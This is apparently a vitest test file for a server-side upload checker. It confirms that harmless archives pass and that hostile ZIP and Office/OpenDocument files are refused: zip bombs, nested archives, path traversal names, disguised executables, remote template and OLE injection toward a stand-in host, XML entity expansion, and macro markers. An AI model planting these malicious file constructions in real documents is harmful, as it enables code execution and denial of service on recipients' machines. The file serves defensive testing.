import { expect, test } from "vitest";

import { refusalCodeOf } from "./refusal.server";
import { zipOf } from "../test-support/sample-files";
import { runCheck } from "./run-check.server";

type Members = Parameters<typeof zipOf>[0];

const codeOf = (bytes: Buffer) => runCheck("archive", bytes, "").then(() => "taken", refusalCodeOf);
const office = (parts: Members) =>
  zipOf([{ name: "[Content_Types].xml", content: "<Types/>" }, { name: "word/document.xml" }, ...parts]);
const relation = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const settings = (type: string, target: string) =>
  office([{ name: "word/_rels/settings.xml.rels", content: relation(type, target) }]);

test("good archives pass", async () => {
  const data = Array.from({ length: 3_000 }, (_, at) => ({
    name: `Mahalle ${at}/sınır.shp`,
    content: `${at}`.repeat(50),
  }));
  const good: Record<string, Buffer> = {
    "many members and folders": zipOf([{ name: "Harita/", content: "", stored: true }, ...data]),
    "a document in it": zipOf([{ name: "ekler/karar.docx", content: office([]) }, { name: "oku.txt" }]),
    "a link and the writer's own template": settings("hyperlink", "https://ornek.example/"),
    "a local template": settings("attachedTemplate", "file:///C:\\Users\\Ay%C5%9Fe\\Normal.dotm"),
    "a list of types from another program": zipOf([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.text", stored: true },
      {
        name: "META-INF/manifest.xml",
        content:
          '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>',
      },
    ]),
    "relations in UTF-16": office([
      {
        name: "word/_rels/document.xml.rels",
        content: Buffer.from(`\uFEFF${relation("hyperlink", "https://ornek.example/")}`, "utf16le"),
      },
    ]),
    "a template beside it": settings("attachedTemplate", "Belediye.dotx"),
    "text that packs well": zipOf([{ name: "a.csv", content: "0;".repeat(9_000_000) }]),
    "nothing at all": zipOf([]),
  };
  for (const [name, bytes] of Object.entries(good)) expect([name, await codeOf(bytes)]).toEqual([name, "taken"]);
});

test("what is unsafe to unpack or to open is refused", async () => {
  const zeros = Buffer.alloc(60_000_000);
  const bomb = zipOf([{ name: "a.bin", content: zeros }]);
  const deep = zipOf([
    {
      name: "1.zip",
      content: zipOf([{ name: "2.zip", content: zipOf([{ name: "3.zip", content: zipOf([{ name: "a" }]) }]) }]),
    },
  ]);
  const hostile: Record<string, [string, Buffer]> = {
    "a bomb": ["archiveUnsafe", bomb],
    "a bomb within": ["archiveUnsafe", zipOf([{ name: "iç.dat", content: bomb, stored: true }])],
    "archives in archives in archives": ["archiveUnsafe", deep],
    "members that share bytes": [
      "archiveUnsafe",
      zipOf([
        { name: "a", content: zeros.subarray(0, 1_000_000) },
        ...Array.from({ length: 300 }, () => ({ name: "a", content: "", at: 0 })),
      ]),
    ],
    "a size that is not true": ["damaged", zipOf([{ name: "a", content: zeros, claims: 100 }])],
    "100,000 members": [
      "archiveUnsafe",
      zipOf(Array.from({ length: 65_534 }, (_, at) => ({ name: `${at}`, content: "", stored: true }))),
    ],
    "a password": [
      "archivePassword",
      zipOf([{ name: "gizli.txt", flags: 1, stored: true, content: "0123456789abxyz", claims: 3 }]),
    ],
    "two names": ["archiveUnsafe", zipOf([{ name: "a.txt", inside: "../../a.txt" }])],
    "another name inside": ["archiveUnsafe", zipOf([{ name: "a.txt", inside: "b.exe" }])],
    "a program within an archive within": [
      "archiveUnsafe",
      zipOf([{ name: "b.dat", content: zipOf([{ name: "kurulum.exe" }]) }]),
    ],
    "a far template": ["archiveUnsafe", settings("attachedTemplate", "https://kotu.example/x.dotm")],
    "a template on another machine": ["archiveUnsafe", settings("attachedTemplate", "file://kotu.example/x.dotm")],
    "a far object": ["archiveUnsafe", settings("oleObject", "http://kotu.example/x.hta")],
    "a far object behind another scheme": [
      "archiveUnsafe",
      settings("oleObject", "mhtml:http://kotu.example/x.html!x-usc:http://kotu.example/x.html"),
    ],
    "a template on another machine, written otherwise": [
      "archiveUnsafe",
      settings("attachedTemplate", "file:///\\\\kotu.example\\x.dotm"),
    ],
    "a template on another machine, with too many signs": [
      "archiveUnsafe",
      settings("attachedTemplate", "file://///kotu.example/x.dotm"),
    ],
    "a template with a broken scheme": [
      "archiveUnsafe",
      settings("attachedTemplate", "ht&#10;tps://kotu.example/x.dotm"),
    ],
    "a far template in UTF-16": [
      "archiveUnsafe",
      office([
        {
          name: "word/_rels/settings.xml.rels",
          content: Buffer.from(`\uFEFF${relation("attachedTemplate", "https://kotu.example/x.dotm")}`, "utf16le"),
        },
      ]),
    ],
    "a far template in UTF-16 without a mark": [
      "archiveUnsafe",
      office([
        {
          name: "word/_rels/settings.xml.rels",
          content: Buffer.from(relation("attachedTemplate", "https://kotu.example/x.dotm"), "utf16le").swap16(),
        },
      ]),
    ],
    "a far template in an encoding of its own": [
      "archiveUnsafe",
      office([
        {
          name: "word/_rels/settings.xml.rels",
          content: relation("hyperlink", "https://ornek.example/").replace('"1.0"', '"1.0" encoding="UTF-7"'),
        },
      ]),
    ],
    "a far template in capitals": [
      "archiveUnsafe",
      office([
        { name: "word/_RELS/settings.xml.RELS", content: relation("attachedTemplate", "https://kotu.example/x.dotm") },
      ]),
    ],
    "a far template by an entity": [
      "archiveUnsafe",
      office([
        {
          name: "word/_rels/settings.xml.rels",
          content: `<!DOCTYPE r [<!ENTITY t "https://kotu.example/x.dotm">]>${relation("attachedTemplate", "&t;")}`,
        },
      ]),
    ],
    "entities that multiply in a document": [
      "archiveUnsafe",
      office([
        {
          name: "word/header1.xml",
          content: `<?xml version="1.0"?>${" ".repeat(200_000)}<!DOCTYPE h [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><h>&b;</h>`,
        },
      ]),
    ],
    "entities in a text of OpenDocument": [
      "archiveUnsafe",
      zipOf([
        { name: "mimetype", content: "application/vnd.oasis.opendocument.text", stored: true },
        { name: "content.xml", content: Buffer.from('\uFEFF<!DOCTYPE h [<!ENTITY a "ha">]><h>&a;</h>', "utf16le") },
      ]),
    ],
    "a script behind an event of OpenDocument": [
      "archiveUnsafe",
      zipOf([
        { name: "mimetype", content: "application/vnd.oasis.opendocument.text", stored: true },
        {
          name: "content.xml",
          content:
            '<script:event-listener xlink:href="vnd.sun.star.script:../../x.py$f?language=Python&amp;location=share"/>',
        },
      ]),
    ],
    "macros of the old kind": [
      "archiveUnsafe",
      zipOf([
        {
          name: "[Content_Types].xml",
          content:
            '<Types><Override PartName="/xl/worksheets/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        },
        { name: "xl/workbook.xml" },
      ]),
    ],
    "macros in a folder of capitals": [
      "archiveUnsafe",
      zipOf([
        { name: "mimetype", content: "application/vnd.oasis.opendocument.text", stored: true },
        { name: "basic/Standard/x.xml" },
      ]),
    ],
    "a program whose name ends in a dot and a blank": ["archiveUnsafe", zipOf([{ name: "kurulum.exe. " }])],
    "a program behind a stream": ["archiveUnsafe", zipOf([{ name: "kurulum.exe::$DATA" }])],
    "a name that reads backwards": ["archiveUnsafe", zipOf([{ name: "rapor\u202Efdp.zip", flags: 0x800 }])],
    "a shortcut to elsewhere": ["archiveUnsafe", zipOf([{ name: "karar.url" }])],
    "a part of elements in elements": [
      "tooComplex",
      office([{ name: "word/_rels/document.xml.rels", content: "<a>".repeat(1_300_000) }]),
    ],
    "macros by type": [
      "archiveUnsafe",
      zipOf([
        {
          name: "[Content_Types].xml",
          content:
            '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        },
        { name: "word/document.xml" },
      ]),
    ],
    "macros by relation": [
      "archiveUnsafe",
      office([
        {
          name: "word/_rels/document.xml.rels",
          content:
            '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/></Relationships>',
        },
      ]),
    ],
    "its end missing": ["damaged", zipOf([{ name: "a.txt" }]).subarray(0, 40)],
    "its middle missing": [
      "damaged",
      Buffer.concat([
        zipOf([{ name: "a.txt", content: "abcabc" }]).subarray(0, 36),
        zipOf([{ name: "a.txt", content: "abcabc" }]).subarray(38),
      ]),
    ],
  };
  for (const [name, [code, bytes]] of Object.entries(hostile))
    expect([name, await codeOf(bytes)]).toEqual([name, code]);
});
